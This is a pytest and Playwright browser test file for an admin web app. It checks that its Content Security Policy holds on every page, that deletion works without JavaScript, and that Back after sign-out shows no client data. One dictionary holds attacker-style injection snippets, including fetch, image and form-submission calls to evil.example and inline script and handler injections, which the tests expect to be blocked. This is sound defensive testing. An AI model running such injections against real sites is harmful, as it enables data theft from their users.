"""In Chromium no page in any state breaks the policy, no danger hangs on a script, Back shows nothing."""

from __future__ import annotations

import re
from itertools import product
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect
from sqlalchemy import func, select

from forms.base import FORMS
from forms.registry import declare
from models.access import SYSTEM
from models.base import db
from models.ward import Ward
from tests.browser import FLAGS, sign_in
from tests.needs import find_chromium

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserContext, Page

declare()

pytestmark = [
    pytest.mark.browser,
    pytest.mark.parametrize("databases", ["sqlite"], indirect=True),  # no policy depends on the database
]

CAST = ("an", "lan", "hoa", "binh")
LOOKS = list(product(("vi", "en"), ("auto", "light", "dark"), ("light", "dark")))
"""Language, appearance chosen, appearance of the device."""

LISTEN = """document.addEventListener('securitypolicyviolation', event =>
    window.broken(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));"""
ANSWERED_SO = re.compile(r"Failed to load resource: the server responded with a status of 4\d\d")
"""What Chromium writes about a page that is a refusal, which some here are."""


def listen(context: BrowserContext) -> list[str]:
    """Collect every violation, and whatever a page writes as an error or a warning."""
    broken: list[str] = []
    context.expose_binding("broken", lambda source, what: broken.append(f"{source['page'].url}: {what}"))
    context.add_init_script(LISTEN)

    def note(message) -> None:
        if message.type in {"error", "warning"} and not ANSWERED_SO.match(message.text):
            broken.append(f"{message.page.url if message.page else ''}: {message.text}")

    context.on("console", note)
    return broken


def wear(page: Page, look) -> None:
    """Choose a language and an appearance with the page's own buttons."""
    language, appearance, device = look
    page.emulate_media(color_scheme=device)
    for name, value in (("language", language), ("theme", appearance)):
        page.locator(f"button[name={name}][value={value}]").click()
        page.wait_for_load_state("load")


def states(page: Page, table: str) -> Iterator[str]:
    """Give the addresses of a table's pages: its list, refusals, and the pages of its first row."""
    yield from (
        f"/admin/{table}/",
        f"/admin/{table}/new/",
        f"/admin/{table}/?page=x",
        f"/admin/{table}/?page=9999",
    )
    page.goto(f"/admin/{table}/")
    row = page.locator(f"table.rows a[href*='/admin/{table}/details/']").first
    number = row.get_attribute("href").rpartition("=")[2] if row.count() else "999999"
    for name in ("details", "edit", "delete", "move", "history", "trash", "reveal"):
        yield f"/admin/{table}/{name}/?id={number}"


OTHERS = tuple(
    f"/admin/{end}"
    for end in (
        "",
        "password/",
        "sessions/",
        "second-factor/",
        "prove/",
        "load/",
        "why/",
        "nowhere",
        "logout/",
    )
)


def visit(page: Page, tables) -> int:
    """Open every state of every table, and what belongs to none."""
    opened = 0
    for table in tables:
        for address in states(page, table):
            page.goto(address, wait_until="load")
            opened += 1
    for address in OTHERS:
        page.goto(address, wait_until="load")
    return opened + len(OTHERS)


@pytest.mark.parametrize("username", CAST)
def test_no_page_in_any_state_breaks_the_policy(page, seeded_copy, username):
    broken, tables = listen(page.context), list(FORMS)
    sign_in(page, seeded_copy, username)
    place = CAST.index(username)
    wear(page, LOOKS[5 * place % len(LOOKS)])
    assert visit(page, tables[place::4]) > 50
    assert broken == []


@pytest.mark.long
@pytest.mark.parametrize("look", LOOKS, ids="-".join)
@pytest.mark.parametrize("username", CAST)
def test_no_page_of_any_table_breaks_the_policy_however_it_is_worn(page, seeded_copy, username, look):
    broken = listen(page.context)
    sign_in(page, seeded_copy, username)
    wear(page, look)
    assert visit(page, FORMS) > 300
    assert broken == []


def test_a_refused_form_a_look_up_and_a_wrong_sign_in_break_nothing(page, seeded_copy):
    broken = listen(page.context)
    page.goto("/admin/login/")
    page.fill("input[name=username]", "lan")
    page.fill("input[name=password]", "sai rồi")
    page.press("input[name=password]", "Enter")
    expect(page.locator("#summary")).to_be_focused()
    sign_in(page, seeded_copy, "lan")
    page.goto("/admin/counselling_session/new/")
    page.locator("#client").press_sequentially("an")
    page.wait_for_selector("#client-list li")
    page.locator("form.entry .buttons button").first.click()
    expect(page.locator("#summary")).to_be_focused()
    assert broken == []


MADE = "document.body.append(Object.assign(document.createElement('{}'), {{{}}}))"
WRITTEN_INTO_THE_PAGE = {
    "a script": MADE.format("script", "textContent: 'broken(1)'"),
    "a script of ours, without its number": MADE.format("script", "src: '/static/panel.js'"),
    "a style": MADE.format("style", "textContent: 'p{}'"),
    "a frame": MADE.format("iframe", "src: '/admin/'"),
    "a base": MADE.format("base", "href: 'https://evil.example'"),
    "an object": MADE.format("object", "data: '/admin/'"),
    "a style of an element": "document.body.setAttribute('style', 'color: red')",
    "a handler": "document.body.setAttribute('onclick', 'broken(1)'); document.body.click()",
    "markup": "document.body.innerHTML = '<b>x</b>'",
    "code in a text": "setTimeout('broken(1)')",
    "a picture of another site": "new Image().src = 'https://evil.example/x.png'",
    "a question to another site": "fetch('https://evil.example/')",
    "a form to another site": "Object.assign(document.forms[0], {action: 'https://evil.example'}).submit()",
}
"""What somebody who found a hole would do with it; none of it may work."""


@pytest.mark.parametrize("script", WRITTEN_INTO_THE_PAGE.values(), ids=WRITTEN_INTO_THE_PAGE)
def test_what_an_attacker_would_write_into_a_page_is_stopped_and_noticed(browser, server, script):
    context = browser.new_context(base_url=server)
    broken = listen(context)
    page = context.new_page()
    page.goto("/admin/login/")
    page.evaluate(f"() => {{ try {{ {script} }} catch (error) {{ }} }}")
    page.evaluate("new Promise(requestAnimationFrame)")
    context.close()
    assert broken
    assert not [text for text in broken if text.endswith(": 1")], "it ran"


def test_without_scripts_deleting_still_asks_on_a_page_of_its_own(browser, server, seeded_copy):
    context = browser.new_context(base_url=server, java_script_enabled=False)
    page = context.new_page()
    sign_in(page, seeded_copy, "an")
    before = count(seeded_copy)
    page.goto("/admin/ward/")
    page.locator("table.rows a[href*='/details/']").first.click()
    page.locator("a[href*='/delete/']").click()
    page.wait_for_url("**/delete/**")
    assert page.locator("h1").text_content().endswith("?")
    assert count(seeded_copy) == before
    context.close()


def count(app) -> int:
    """Count the wards."""
    with app.app_context():
        db.session().info["person"] = SYSTEM
        return db.session.scalar(select(func.count(Ward.id)))


@pytest.fixture
def browser_that_keeps_pages(browser) -> Iterator[Browser]:
    """Start a Chromium that keeps pages for Back, as people's own does and a tests' does not."""
    program = find_chromium()
    started = browser.browser_type.launch(
        executable_path=program, args=list(FLAGS), ignore_default_args=["--disable-back-forward-cache"]
    )
    yield started
    started.close()


def test_after_signing_out_back_shows_nobodys_page(browser_that_keeps_pages, server, seeded_copy):
    page = browser_that_keeps_pages.new_context(base_url=server).new_page()
    sign_in(page, seeded_copy, "lan")
    page.goto("/admin/client/")
    name = page.locator("table.rows tbody th a").first.text_content().strip()
    page.locator("details.account summary").click()
    page.locator("details.account form button").click()
    page.wait_for_url("**/admin/login/**")
    for _step in range(3):
        page.go_back()
        assert name not in page.content()
        assert page.locator("input[name=password]").count() == 1, page.url
